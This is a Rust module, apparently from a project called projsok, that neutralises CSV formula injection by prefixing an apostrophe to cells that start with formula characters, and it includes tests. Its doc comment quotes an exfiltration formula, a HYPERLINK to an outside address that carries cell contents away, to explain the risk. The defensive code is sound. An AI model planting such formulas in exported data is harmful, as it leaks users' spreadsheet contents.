//! CSV cells made safe to open in a spreadsheet. A cell that begins with `=`, `+`, `-` or `@`
//! (or a tab or carriage return before one) is a formula to Excel and LibreOffice, and any
//! indexed document controls its own title and text: `=HYPERLINK("http://…?x="&A1)` in a title
//! would send the sheet's cells away when clicked. Such a cell gets a leading apostrophe, which
//! the spreadsheet shows as text (OWASP's advice for CSV injection). Programs reading the CSV see
//! the apostrophe; the JSON and NDJSON outputs carry the text unchanged.
//!
//! ```
//! use projsok::output::spreadsheet::safe_cell;
//!
//! assert_eq!(safe_cell("=SUM(A1:A9)"), "'=SUM(A1:A9)");
//! assert_eq!(safe_cell("Vägar in i arbete"), "Vägar in i arbete");
//! ```

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a spreadsheet shows it as text.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_the_rest_stays() {
        for formula in ["=1+1", "+SUM(1+1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(safe_cell(formula), format!("'{formula}"));
        }
        for text in ["", "2021-06-01", "seeds/000.txt", "Sfi = svenska", " =1", "'quoted"] {
            assert_eq!(safe_cell(text), text);
        }
    }
}
